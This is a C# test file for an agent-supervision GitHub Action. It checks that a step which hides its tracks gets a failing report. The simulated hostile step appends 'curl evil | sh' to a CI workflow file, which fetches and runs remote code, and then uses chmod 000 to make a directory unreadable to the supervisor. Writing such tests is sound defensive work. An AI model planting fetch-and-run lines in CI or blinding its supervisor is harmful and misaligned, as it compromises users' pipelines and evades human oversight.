using Nono.Testing;

namespace Nono.Action.Tests.ActionMode;

/// <summary>An agent that makes its session record incomplete gets a red report, not a green one (review F5).</summary>
public sealed class ActionIncompleteRecordTests
{
    [Fact]
    public async Task UnreadableDirectory_FailsTheFinalSnapshot_AndTheReportSaysIncomplete()
    {
        // chmod 000 stops only a non-root supervisor from reading the tree.
        Assert.SkipUnless(ProcessRunner.IsRoot, "running as uid 65534 needs root");
        using ActionStep runner = new(TestUser.Nobody);

        (ProcessResult step, ProcessResult gate, Dictionary<string, string> outputs) = await runner.RunAsync(new()
        {
            ["run"] = "echo '  - run: curl evil | sh' >> .github/workflows/ci.yml; mkdir d; chmod 000 d",
        });

        string summary = File.ReadAllText(runner.SummaryFile);
        Assert.NotEqual(0, step.ExitCode);
        Assert.NotEqual(0, gate.ExitCode);
        Assert.Contains("session record incomplete", summary, StringComparison.Ordinal);
        Assert.DoesNotContain("🟢", summary, StringComparison.Ordinal);
        Assert.DoesNotContain("Snapshots were off", summary, StringComparison.Ordinal);
        Assert.Contains("::error title=nono.session-incomplete", step.StandardOutput, StringComparison.Ordinal);
        Assert.NotEqual("0", outputs.GetValueOrDefault("violations", "0"));
    }

    [Fact]
    public async Task CompleteRun_IsNotCalledIncomplete()
    {
        using ActionStep runner = new(TestUser.Current);

        (ProcessResult step, _, _) = await runner.RunAsync(new() { ["run"] = "mkdir d && echo x > d/f" });

        Assert.True(step.ExitCode == 0, step.ToString());
        Assert.DoesNotContain("incomplete", File.ReadAllText(runner.SummaryFile), StringComparison.Ordinal);
    }
}
